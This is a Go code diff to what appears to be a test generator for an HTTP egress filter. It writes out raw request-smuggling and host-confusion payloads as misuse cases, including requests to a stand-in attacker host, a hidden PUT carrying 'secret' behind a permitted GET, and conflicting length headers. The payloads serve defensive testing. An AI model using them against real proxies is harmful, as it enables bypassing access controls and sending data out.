@@ -24,7 +24,7 @@ func (m *mutating) wire(bases []base) {
 	request := func(target, host string) string {
 		return "GET " + target + " HTTP/1.1\r\nHost: " + host + "\r\n" + field + "Connection: close\r\n\r\n"
 	}
-	put := "PUT " + b.path + " HTTP/1.1\r\nHost: " + b.host + "\r\n" + field + "Content-Length: 6\r\n\r\nsecret"
+	put := "PUT " + b.path + " HTTP/1.1\r\nHost: " + b.host + "\r\n" + field + "Connection: close\r\nContent-Length: 6\r\n\r\nsecret"
 
 	w.names(request)
 	w.tls("absolute form of another host", b.host, request("https://"+attackerHost+loot, b.host))
@@ -33,9 +33,9 @@ func (m *mutating) wire(bases []base) {
 	w.tls("path without a slash", b.host, request(loot[1:], b.host))
 	w.tls("fragment in the path", b.host, request(loot+"#"+b.path, b.host))
 	w.tls("CONNECT inside TLS", b.host, "CONNECT "+attackerHost+":443 HTTP/1.1\r\nHost: "+attackerHost+":443\r\n"+field+"\r\n")
-	w.tls("a second request behind a permitted one", b.host,
+	w.carried("a second request behind a permitted one",
 		"GET "+b.path+" HTTP/1.1\r\nHost: "+b.host+"\r\n"+field+"Content-Length: 0\r\n\r\n"+put)
-	w.tls("a request in the body of a chunked one", b.host,
+	w.carried("a request in the body of a chunked one",
 		"GET "+b.path+" HTTP/1.1\r\nHost: "+b.host+"\r\n"+field+"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"+put)
 	w.tls("two lengths", b.host, strings.Replace(put, "Content-Length: 6", "Content-Length: 6\r\nContent-Length: 0", 1))
 	w.tls("method in small letters", b.host, strings.Replace(put, "PUT", "put", 1))
@@ -73,6 +73,14 @@ func (w wiring) tls(mutation, serverName, payload string) {
 	w.m.add(Request{
 		Mutation: mutation, Of: w.b.of, Class: Misuse, Method: firstWord(payload), URL: w.b.origin() + "/",
 		Wire: &Wire{Host: w.b.host, Port: w.b.portOr(443), TLS: true, ServerName: serverName, Payload: payload},
+	})
+}
+
+// carried writes a permitted request first.
+func (w wiring) carried(mutation, payload string) {
+	w.m.add(Request{
+		Mutation: mutation, Of: w.b.of, Class: Misuse, Method: "PUT", URL: w.b.url(),
+		Wire: &Wire{Host: w.b.host, Port: w.b.portOr(443), TLS: true, ServerName: w.b.host, Payload: payload, Carrier: true},
 	})
 }
 
